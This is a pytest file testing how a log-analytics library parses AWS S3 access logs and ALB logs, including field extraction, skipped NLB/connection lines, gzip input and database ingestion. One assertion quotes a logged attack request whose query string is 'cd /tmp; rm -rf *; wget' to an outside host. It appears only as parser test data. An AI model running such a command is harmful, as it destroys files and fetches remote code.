"""AWS logs from real accounts: elastic-integrations-aws (S3, ALB family) and aws-samples (ALB, gzip)."""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import pytest
from conftest import parse_file as parse

import stats_lib
from stats_lib.engines.duckdb import connect
from stats_lib.sources.alb import SKIP_CONNECTION, SKIP_NLB


@pytest.fixture
def elastic(corpora: Path) -> Path:
    return corpora / "elastic-integrations-aws"


def test_s3_every_line_parsed(elastic):
    name, rows, reader = parse(elastic / "test-s3-server-access.log")
    assert name == "s3" and reader.lines == 10 and len(rows) == 10 and not reader.rejects
    assert [r["line_number"] for r in rows] == list(range(1, 11))
    ops = [r["operation"] for r in rows]
    assert ops == ["REST.GET.LOCATION"] * 2 + ["REST.GET.BUCKET", "REST.GET.LOCATION"] + ["BATCH.DELETE.OBJECT"] * 2 + [
        "REST.PUT.OBJECT"
    ] * 3 + ["S3.EXPIRE.OBJECT"]
    first = rows[0]
    assert first["host"] == "test-s3-ks" and first["client_ip"] == "89.160.20.156"
    assert first["ts"] == dt.datetime(2019, 8, 1, 0, 24, 41)
    assert (first["method"], first["path"], first["query"]) == ("GET", "/test-s3-ks/", "location&aws-account=627959692251")
    assert first["user_agent"].startswith("AWS-Support-TrustedAdvisor, aws-internal/3 aws-sdk-java/1.11.590")
    assert first["user_agent"].endswith("vendor/Oracle_Corporation") and first["protocol"] == "https"
    assert (first["status"], first["bytes_sent"], first["time_taken_ms"]) == (200, 142, 17.0)
    batch = rows[4]  # request URI '-': the path comes from the key
    assert (batch["method"], batch["path"], batch["status"], batch["user_agent"]) == (None, "/jolokia-war-1.5.0.war", 204, "")
    put = rows[7]  # 26 fields: access point ARN and aclRequired
    assert (put["method"], put["client_ip"], put["status"], put["host"]) == ("PUT", None, 200, "flow-log-test")
    assert rows[8]["status"] is None  # status '-'
    expire = rows[9]
    assert (expire["operation"], expire["method"], expire["client_ip"], expire["status"]) == ("S3.EXPIRE.OBJECT", None, None, None)
    assert expire["ts"] == dt.datetime(2025, 3, 25, 19, 28, 2)


def test_s3_user_agent_with_quotes_and_commas(tmp_path):
    line = (
        '79a5 www.example.com [06/Feb/2019:00:00:38 +0000] 192.0.2.3 - 3E57427F3EXAMPLE WEBSITE.GET.OBJECT index.html '
        '"GET /index.html?x=1 HTTP/1.1" 200 - 113 113 7 6 "https://ref.example/" '
        '"Mozilla/5.0 (X11, Linux) "quoted" thing, comma" - s9lzHYrFp76ZVxRcpX9+5cjAnEH2ROuNkd2BHfIa6UkFVdtjf5mKR3/eTPFvsiP/XV/VLi31234= '
        "SigV4 ECDHE-RSA-AES128-GCM-SHA256 AuthHeader www.example.com TLSv1.2 - -\n"
    )
    path = tmp_path / "s3-website.log"
    path.write_text(line)
    name, rows, reader = parse(path)
    assert name == "s3" and len(rows) == 1 and not reader.rejects
    r = rows[0]
    assert r["user_agent"] == 'Mozilla/5.0 (X11, Linux) "quoted" thing, comma'
    assert (r["host"], r["path"], r["query"], r["referrer"]) == ("www.example.com", "/index.html", "x=1", "https://ref.example/")


def test_s3_pageviews_only_for_object_gets(elastic, settings, warehouse, tmp_path):
    website = tmp_path / "website.log"
    website.write_text(
        'aa www.example.com [06/Feb/2019:00:00:38 +0000] 192.0.2.3 - ID1 WEBSITE.GET.OBJECT index.html "GET / HTTP/1.1" '
        '200 - 113 113 7 6 "-" "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0" - hid SigV4 - - '
        "www.example.com.s3-website-us-east-1.amazonaws.com - - -\n"
        'aa www.example.com [06/Feb/2019:00:00:39 +0000] 192.0.2.3 - ID2 REST.PUT.OBJECT index.html "PUT /index.html HTTP/1.1" '
        '200 - 113 113 7 6 "-" "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0" - hid SigV4 - - '
        "s3.amazonaws.com - - -\n"
    )
    summary = stats_lib.ingest([str(website), str(elastic / "test-s3-server-access.log")], settings=settings)
    assert (summary.events, summary.rejected, summary.skipped) == (12, 0, 0)
    con = connect(warehouse)
    rows = con.execute("SELECT operation, is_pageview, site FROM events WHERE source_file = 'website.log' ORDER BY ts").fetchall()
    assert rows == [("WEBSITE.GET.OBJECT", True, "example.com"), ("REST.PUT.OBJECT", False, "example.com")]
    assert con.execute("SELECT COUNT(*) FROM events WHERE is_pageview AND source_file <> 'website.log'").fetchone() == (0,)


def test_alb_family_every_line_parsed_or_skipped(elastic):
    name, rows, reader = parse(elastic / "test-alb.log")
    assert name == "alb" and reader.lines == 10
    assert [r["line_number"] for r in rows] == [1, 2, 10]
    skipped = [(n, kind, reason) for n, kind, reason, _ in reader.rejects]
    assert skipped == [(n, "skipped", SKIP_NLB) for n in (3, 4, 5, 6)] + [(n, "skipped", SKIP_CONNECTION) for n in (7, 8, 9)]
    assert reader.rejected == 0
    first, shell, malformed = rows
    assert (first["method"], first["host"], first["path"], first["status"], first["user_agent"]) == (
        "GET", "www.example.com:80", "/", 200, "curl/7.46.0"
    )
    assert first["client_ip"] == "192.168.131.39" and first["ts"] == dt.datetime(2018, 7, 2, 22, 23, 0, 186000)
    assert shell["time_taken_ms"] is None and shell["status"] == 301  # -1 timings, no target
    assert shell["path"] == "/shell" and shell["query"].startswith("cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk")
    assert (malformed["method"], malformed["status"], malformed["user_agent"], malformed["client_ip"]) == (None, 200, "", "127.0.0.1")
    for _, _, _, text in reader.rejects:
        assert "192.168.131.39" not in text


def test_alb_forced_as_elb_reads_the_same(elastic):
    _, rows, reader = parse(elastic / "test-alb.log", "elb")
    assert len(rows) == 3 and reader.skipped == 7


def test_aws_samples_alb_gzip_460(corpora):
    name, rows, reader = parse(corpora / "aws-samples-cloudfront-log-analysis" / "sample-alb-logs.gz")
    assert name == "alb" and len(rows) == 1 and not reader.rejects
    r = rows[0]
    assert (r["status"], r["time_taken_ms"], r["bytes_sent"], r["path"], r["host"]) == (460, None, 0, "/", "54.236.119.61:80")
    assert r["ts"] == dt.datetime(2018, 11, 8, 8, 15, 33, 779000)
    assert r["user_agent"].endswith("Chrome/51.0.2704.103 Safari/537.36")


def test_alb_trailing_fields_missing_or_extra(tmp_path):
    base = (
        'h2 2024-03-01T10:00:00.000001Z app/x/1 203.0.113.9:1234 10.0.0.1:80 0.001 0.250 0.000 200 200 10 2048 '
        '"GET https://shop.example.com:443/cart?id=7 HTTP/2.0" "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:120.0) Gecko/20100101 Firefox/120.0"'
    )
    path = tmp_path / "alb.log"
    path.write_text(base + "\n" + base + ' - - arn "Root=1" "shop.example.com" "-" 0 2024-03-01T10:00:00Z "forward" "-" "-" "10.0.0.1:80" "200" "-" "-" TID_1 extra1 "extra 2"\n')
    name, rows, reader = parse(path)
    assert name == "alb" and len(rows) == 2 and not reader.rejects
    for r in rows:
        assert (r["host"], r["path"], r["query"], r["protocol"], r["time_taken_ms"]) == ("shop.example.com:443", "/cart", "id=7", "https", 250.0)


def test_aws_files_end_to_end(elastic, corpora, settings, warehouse):
    files = [elastic / "test-alb.log", elastic / "test-s3-server-access.log",
             corpora / "aws-samples-cloudfront-log-analysis" / "sample-alb-logs.gz"]
    summary = stats_lib.ingest([str(f) for f in files], settings=settings)
    assert [(f.format, f.lines, f.events, f.rejected, f.skipped) for f in summary.files] == [
        ("alb", 10, 3, 0, 7), ("s3", 10, 10, 0, 0), ("alb", 1, 1, 0, 0)
    ]
    assert summary.reasons == {SKIP_NLB: 4, SKIP_CONNECTION: 3}
    con = connect(warehouse)
    assert con.execute("SELECT kind, reason, COUNT(*) FROM rejects GROUP BY ALL ORDER BY 2").fetchall() == [
        ("skipped", SKIP_CONNECTION, 3), ("skipped", SKIP_NLB, 4)
    ]
    assert con.execute("SELECT COUNT(*) FROM events").fetchone() == (14,)
    assert con.execute("SELECT status, hits FROM (SELECT status, COUNT(*) hits FROM events GROUP BY 1) WHERE status = 460").fetchall() == [(460, 1)]
